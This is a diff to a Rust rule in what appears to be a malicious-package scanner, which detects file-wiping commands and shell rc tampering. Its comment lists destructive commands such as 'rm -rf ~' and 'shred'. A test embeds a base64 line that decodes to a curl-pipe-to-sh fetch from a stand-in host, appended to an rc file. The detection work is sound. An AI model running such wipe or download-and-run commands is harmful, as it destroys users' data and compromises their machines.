@@ -7,8 +7,10 @@ use crate::rules::{Emitter, all_text, code_files, find_text, is_doc_path};
 crate::declare_rule! {
     /// Wipes or sabotages the user's files or machine: `rm -rf ~`/`$HOME`/`/`, `shred`,
     /// `del /s /q`, `cipher /w`, recursive removal of the home directory from code, overwriting
-    /// every file found while walking parent directories, shutdown lines appended to shell rc
-    /// files, and a time bomb: after a fixed date, emptying every file a recursive walk finds.
+    /// every file found while walking parent directories (in a bundle, with the parent named
+    /// near the walk), a planted command (`shutdown -h`, `rm -rf`, a `curl`/`wget` download, a
+    /// pipe into `sh`) written to a shell rc file with the file's path and the command around
+    /// the write, and a time bomb: after a fixed date, emptying every file a recursive walk finds.
     id: "destructive-fs",
     category: Other,
     severity: High,
@@ -59,9 +61,8 @@ fn rc_tamper(f: &crate::package::FileCtx, js: &crate::js::JsFacts) -> Option<u32
                 .iter()
                 .filter(|(_, o)| (lo..hi).contains(&(*o as usize)))
                 .map(|(s, _)| s.as_str());
-            let near = |re: &regex::Regex| {
-                re.is_match(window) || decoded.clone().any(|s| re.is_match(s))
-            };
+            let near =
+                |re: &regex::Regex| re.is_match(window) || decoded.clone().any(|s| re.is_match(s));
             near(rc_path) && near(payload)
         })
         .map(|c| c.off)
@@ -296,7 +297,11 @@ mod rc_tests {
             const line = Buffer.from('Y3VybCAtcyBodHRwczovL2guZXhhbXBsZS94IHwgc2g=', 'base64').toString();\n\
             fs.appendFileSync(rc, '\\n' + line + '\\n');\n";
         let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Critical), "{hits:?}");
+        assert_eq!(
+            hits.first().map(|h| h.severity),
+            Some(Severity::Critical),
+            "{hits:?}"
+        );
     }
 }
 
